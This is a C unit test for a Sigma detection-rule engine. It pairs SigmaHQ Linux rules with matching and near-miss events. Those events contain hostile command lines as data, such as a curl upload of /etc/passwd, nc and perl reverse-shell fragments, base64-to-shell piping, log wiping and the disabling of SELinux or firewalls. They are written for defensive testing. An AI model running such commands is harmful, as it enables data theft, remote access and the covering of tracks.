/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Rules of SigmaHQ as their authors meant them: for each of these one event that matches and a near miss. The rules are
 * read from the shared copies (HF_SHARED, else ../shared beside the source tree, else /work/shared) and not copied here;
 * where they are absent this is skipped. All rules are loaded as one set, so that the choice of candidates is tried as well.
 */
#include <dirent.h>
#include <unistd.h>
#include "sigma_fixture.h"

#define MAX_TEXT (1u << 16)

struct row {
	const char *file;		/* without its folder's prefix and .yml */
	const char *hit, *miss;		/* Field=value, parted by '\n' */
};

#define X(image, cmd) "Image=" image "\nCommandLine=" cmd
static const struct row rows[] = {
	/* lists, all of, contains|all */
	{ "process_creation/proc_creation_lnx_apt_shell_execution", X("/usr/bin/apt-get", "apt-get update -o APT::Update::Pre-Invoke::=/bin/sh"),
	  X("/usr/bin/apt-get", "apt-get update -o APT::Update::Post-Invoke::=/bin/sh") },
	{ "process_creation/proc_creation_lnx_at_command", "Image=/usr/bin/at", "Image=/usr/bin/cat" },
	{ "process_creation/proc_creation_lnx_av_kaspersky_av_disabled", X("/bin/systemctl", "systemctl stop kesl"), X("/bin/systemctl", "systemctl start kesl") },
	{ "process_creation/proc_creation_lnx_awk_shell_spawn", X("/usr/bin/GAWK", "gawk 'BEGIN {SYSTEM(\"/bin/sh\")}'"),
	  X("/usr/bin/gawk", "gawk 'BEGIN {system(\"/bin/ls\")}'") },
	{ "process_creation/proc_creation_lnx_bpf_kprob_tracing_enabled", "CommandLine=sh -c 'echo 1 > /sys/kernel/debug/tracing/events/kprobes/myprobe/enable'",
	  "CommandLine=sh -c 'echo 0 > /sys/kernel/debug/tracing/events/kprobes/myprobe/enable'" },
	{ "process_creation/proc_creation_lnx_dd_process_injection", X("/bin/dd", "dd if=x of=/proc/7/mem bs=1"), X("/bin/dd", "dd if=x of=/proc/7/maps") },
	{ "process_creation/proc_creation_lnx_esxcli_permission_change_admin", X("/bin/esxcli", "esxcli system permission set --role admin"),
	  X("/bin/esxcli", "esxcli system permission list --role Admin") },
	{ "process_creation/proc_creation_lnx_clipboard_collection", X("/usr/bin/xclip", "xclip -selection clipboard -o"), X("/usr/bin/xclip", "xclip -selection clipboard -i") },
	/* regular expressions */
	{ "process_creation/proc_creation_lnx_auditctl_clear_rules", X("/sbin/auditctl", "auditctl -D"), X("/sbin/auditctl", "auditctl -d always,exit") },
	{ "process_creation/proc_creation_lnx_susp_curl_fileupload", X("/usr/bin/curl", "curl -T /etc/passwd https://x.example"),
	  X("/usr/bin/curl", "curl -t /etc/passwd https://x.example") },
	{ "process_creation/proc_creation_lnx_susp_inod_listing", X("/bin/ls", "ls -id /"), X("/bin/ls", "ls -i /") },
	/* exclusions */
	{ "process_creation/proc_creation_lnx_susp_curl_fileupload", X("/usr/bin/curl", "curl --data @f https://x.example/"),
	  X("/usr/bin/curl", "curl --data @f http://localhost:80/") },
	{ "process_creation/proc_creation_lnx_chmod_targeting_sensitive_directories", X("/bin/chmod", "chmod 777 /etc/landscape/"),
	  X("/bin/chmod", "chmod 0775 /etc/landscape/") },
	{ "process_creation/proc_creation_lnx_chmod_targeting_sensitive_directories", X("/bin/chmod", "chmod 777 /etc/x") "\nParentCommandLine=/var/lib/dpkg/info/x.postinst remove",
	  X("/bin/chmod", "chmod 777 /etc/x") "\nParentCommandLine=/bin/sh /var/lib/dpkg/info/x.postinst configure 1" },
	{ "process_creation/proc_creation_lnx_clear_logs", X("/bin/rm", "rm -rf /var/log/sysstat/sa01"), X("/bin/rm", "rm -f /var/log/sysstat/sa01") },
	{ "process_creation/proc_creation_lnx_rsync_shell_spawn", "ParentImage=/usr/bin/rsync\n" X("/bin/sh", "sh 0<&2 1>&2"), "ParentImage=/usr/bin/rsync\n" X("/bin/sh", "sh -e x -e y") },
	{ "process_creation/proc_creation_lnx_susp_execution_tmp_folder", "Image=/tmp/.x/run", "Image=/tmp/.mount_N/usr/bin/nextcloud" },
	{ "process_creation/proc_creation_lnx_susp_network_utilities_execution", X("/bin/nc", "nc 203.0.113.7 4444"), X("/bin/nc", "nc -v -l 4444") },
	{ "process_creation/proc_creation_lnx_susp_network_utilities_execution", X("/usr/bin/telnet", "telnet -l joe host"), X("/usr/bin/ssh", "ssh -l joe host") },
	/* nested conditions, 1 of name* */
	{ "process_creation/proc_creation_lnx_clear_syslog", X("/bin/ln", "ln -sfn /dev/null /var/log/syslog"), X("/bin/ln", "ln -sfn /dev/null /var/log/daemon.log") },
	{ "process_creation/proc_creation_lnx_clear_syslog", X("/bin/bash", "bash -c ': > /var/log/syslog'"), X("/bin/bash", "bash -c 'cat /var/log/syslog'") },
	{ "process_creation/proc_creation_lnx_disable_ufw", X("/usr/sbin/ufw", "ufw disable"), X("/usr/sbin/ufw", "ufw enable") },
	{ "process_creation/proc_creation_lnx_install_suspicious_packages", X("/usr/bin/dpkg", "dpkg -i nmap.deb"), X("/usr/bin/snap", "snap install nmap") },
	{ "process_creation/proc_creation_lnx_security_tools_disabling", X("/usr/sbin/setenforce", "setenforce 0"), X("/usr/sbin/getenforce", "getenforce 0") },
	{ "process_creation/proc_creation_lnx_susp_container_residence_discovery", X("/bin/cat", "cat /proc/1/cgroup"), X("/bin/cat", "cat /proc/1/status") },
	{ "process_creation/proc_creation_lnx_susp_interactive_bash", "ParentCommandLine=bash -i\n" X("/usr/bin/whoami", "whoami"),
	  "ParentCommandLine=bash -il\n" X("/usr/bin/whoami", "whoami") },
	/* a list of maps: any of them */
	{ "process_creation/proc_creation_lnx_base64_execution", "CommandLine=sh -c echo aGk= | base64 -d | sh", "CommandLine=sh -c echo aGk= | base64 -d | shuf" },
	{ "process_creation/proc_creation_lnx_perl_reverse_shell", X("/usr/bin/perl", "perl -e 'use Socket;connect(S);open(STDIN);exec(\"sh\")'"),
	  X("/usr/bin/perl", "perl -e 'use Socket;connect(S);open(STDIN)'") },
	{ "process_creation/proc_creation_lnx_python_http_server_execution", X("/usr/bin/python3.11", "python3 -m http.server 80"),
	  X("/usr/bin/pythonw", "python3 -m http.server 80") },
	{ "process_creation/proc_creation_lnx_susp_history_delete", X("/bin/rm", "rm /root/.python_history"), X("/bin/rm", "rm /root/.python_history.bak") },
	/* exact, start, end, case, quotes */
	{ "process_creation/proc_creation_lnx_dd_file_overwrite", X("/usr/bin/dd", "dd if=/dev/zero of=/etc/x"), X("/opt/usr/bin/dd", "dd if=/dev/zero of=/etc/x") },
	{ "process_creation/proc_creation_lnx_capsh_shell_invocation", X("/sbin/capsh", "capsh --user=x --"), X("/sbin/capsh", "capsh -- -c id") },
	{ "process_creation/proc_creation_lnx_grep_os_arch_discovery", X("/bin/grep", "grep X86_64"), X("/bin/grep", "grep x86_64 f") },
	{ "process_creation/proc_creation_lnx_local_account", X("/usr/bin/awk", "awk -F: '$3~'x:0:'"), X("/usr/bin/awk", "awk -F: x:0:") },
	{ "process_creation/proc_creation_lnx_susp_exec_from_dev_shm", "Image=/dev/shm/a", "Image=/opt/dev/shm/a" },
	{ "process_creation/proc_creation_lnx_git_shell_execution", "ParentImage=/usr/bin/git\nParentCommandLine=git -p help\nCommandLine=bash 0<&1",
	  "ParentImage=/usr/bin/git\nParentCommandLine=git help\nCommandLine=bash 0<&1" },
	{ "process_creation/proc_creation_lnx_remote_access_tools_teamviewer_incoming_connection", "ParentImage=/opt/tv/TeamViewer_Service\n"
	  X("/opt/tv/TeamViewer_Desktop", "/opt/tv/TeamViewer_Desktop --IPCport 5939 --Module 1"),
	  "ParentImage=/opt/tv/TeamViewer_Service\n" X("/opt/tv/TeamViewer_Desktop", "/opt/tv/TeamViewer_Desktop --IPCport 5939 --Module 2") },
	/* files */
	{ "file_event/file_event_lnx_persistence_sudoers_files", "Image=/bin/cp\nTargetFilename=/etc/sudoers.d/README.dpkg-new",
	  "Image=/usr/bin/dpkg\nTargetFilename=/etc/sudoers.d/README.dpkg-new" },
	{ "file_event/file_event_lnx_susp_cron_file_created", "TargetFilename=/etc/cron.daily/x", "TargetFilename=/etc/cron.daily/dpkg" },
	{ "file_event/file_event_lnx_susp_shell_script_under_profile_directory", "TargetFilename=/etc/profile.d/a.sh", "TargetFilename=/etc/profile.d/a.sh.bak" },
	{ "file_event/file_event_lnx_triple_cross_rootkit_lock_file", "TargetFilename=/tmp/rootlog", "TargetFilename=/tmp/rootlog1" },
	{ "file_event/file_event_lnx_susp_filename_with_embedded_base64_command", "TargetFilename=/x/{base64,-d}|bash", "TargetFilename=/x/{base64,-e}|bash" },
	{ "file_event/file_event_lnx_wget_download_file_in_tmp_dir", "Image=/usr/bin/wget\nTargetFilename=/var/tmp/a", "Image=/usr/bin/wget\nTargetFilename=/home/tmp/a" },
	/* the network: numbers, networks, names */
	{ "network_connection/net_connection_lnx_susp_malware_callback_port", "Initiated=true\nDestinationPort=4444\nDestinationIp=203.0.113.7",
	  "Initiated=true\nDestinationPort=4444\nDestinationIp=172.31.255.9" },
	{ "network_connection/net_connection_lnx_susp_malware_callback_port", "Initiated=true\nDestinationPort=888\nDestinationIp=2001:db8::1",
	  "Initiated=true\nDestinationPort=888\nDestinationIp=fd00::1" },
	{ "network_connection/net_connection_lnx_back_connect_shell_dev", "Image=/usr/bin/bash\nDestinationIp=203.0.113.7", "Image=/usr/bin/bash\nDestinationIp=127.0.0.1" },
	{ "network_connection/net_connection_lnx_domain_localtonet_tunnel", "DestinationHostname=a.localto.net\nInitiated=true", "DestinationHostname=a.localto.net\nInitiated=false" },
	{ "network_connection/net_connection_lnx_crypto_mining_indicators", "DestinationHostname=xmr.2miners.com", "DestinationHostname=x.xmr.2miners.com" },
};
#define N (sizeof(rows) / sizeof(rows[0]))

static const char *shared(void)
{
	const char *dir = getenv("HF_SHARED");

	if (dir)
		return dir;
	return access(HF_SOURCE_DIR "/../shared/sigma", R_OK) == 0 ? HF_SOURCE_DIR "/../shared" : "/work/shared";
}

static unsigned load_folder(struct hf_ruleset *rs, const char *name)
{
	char path[4096], *text = malloc(MAX_TEXT);
	struct hf_rule_error err;
	struct dirent *e;
	unsigned n = 0;
	DIR *d;

	snprintf(path, sizeof(path), "%s/sigma/%s", shared(), name);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		size_t len;
		FILE *f;

		if (!strstr(e->d_name, ".yml"))
			continue;
		snprintf(path, sizeof(path), "%s/sigma/%s/%s", shared(), name, e->d_name);
		f = fopen(path, "r");
		assert_non_null(f);
		len = fread(text, 1, MAX_TEXT, f);
		fclose(f);
		snprintf(path, sizeof(path), "%s/%s", name, e->d_name);
		if (hf_ruleset_add(rs, (struct hf_str){ text, len }, path, &err) < 0)
			fail_msg("%s", err.text);
		n++;
	}
	if (d)
		closedir(d);
	free(text);
	return n;
}

static bool fires(const struct hf_ruleset *rs, unsigned rule, const char *fields)
{
	static struct event ev;
	static char copy[1024];
	uint64_t bits[8] = { 0 };
	bool yes, limited;

	memset(&ev, 0, sizeof(ev));
	ev.e.categories = ~0u;
	snprintf(copy, sizeof(copy), "%s", fields);
	for (char *save = NULL, *p = strtok_r(copy, "\n", &save); p; p = strtok_r(NULL, "\n", &save)) {
		char *eq = strchr(p, '=');
		enum hf_field f = HF_FIELDS;

		assert_non_null(eq);
		*eq = 0;
		assert_int_equal(hf_field_parse(p, &f), 0);
		ev.v[f].s[ev.v[f].n++] = hf_str_of(eq + 1);
		ev.e.f[f] = &ev.v[f];
	}
	hf_ruleset_candidates(rs, &ev.e, bits);
	yes = hf_rule_match(hf_ruleset_get(rs, rule), &ev.e, &limited);
	assert_false(limited);
	for (unsigned i = 0; i < hf_ruleset_count(rs); i++)
		if (!(bits[i / 64] >> (i % 64) & 1) && hf_rule_match(hf_ruleset_get(rs, i), &ev.e, &limited))
			fail_msg("%s matches and is no candidate: %s", hf_rule_file(hf_ruleset_get(rs, i)), fields);
	return yes;
}

static unsigned rule_of(const struct hf_ruleset *rs, const char *file)
{
	for (unsigned i = 0; i < hf_ruleset_count(rs); i++) {
		const char *name = hf_rule_file(hf_ruleset_get(rs, i));

		if (strncmp(name, file, strlen(file)) == 0 && strcmp(name + strlen(file), ".yml") == 0)
			return i;
	}
	fail_msg("no rule %s", file);
	return 0;
}

static void as_their_authors_meant(void **state)
{
	struct hf_ruleset *rs = hf_ruleset_new();
	struct hf_rule_error err;
	unsigned n = load_folder(rs, "process_creation") + load_folder(rs, "file_event") + load_folder(rs, "network_connection");

	if (n == 0) {
		print_message("skipped: no SigmaHQ rules in %s/sigma; set HF_SHARED to the folder that holds sigma/\n", shared());
		hf_ruleset_free(&rs);
		skip();
	}
	assert_true(n < 500);
	if (hf_ruleset_finish(rs, &err) < 0)
		fail_msg("%s", err.text);
	for (unsigned i = 0; i < n; i++)
		if (hf_rule_not_applicable(hf_ruleset_get(rs, i)))
			fail_msg("%s: %s", hf_rule_file(hf_ruleset_get(rs, i)), hf_rule_not_applicable(hf_ruleset_get(rs, i)));
	for (unsigned i = 0; i < N; i++) {
		unsigned r = rule_of(rs, rows[i].file);

		if (!fires(rs, r, rows[i].hit))
			fail_msg("%s does not match:\n%s", rows[i].file, rows[i].hit);
		if (fires(rs, r, rows[i].miss))
			fail_msg("%s matches:\n%s", rows[i].file, rows[i].miss);
	}
	hf_ruleset_free(&rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(as_their_authors_meant) };

	return cmocka_run_group_tests(tests, NULL, NULL);
}
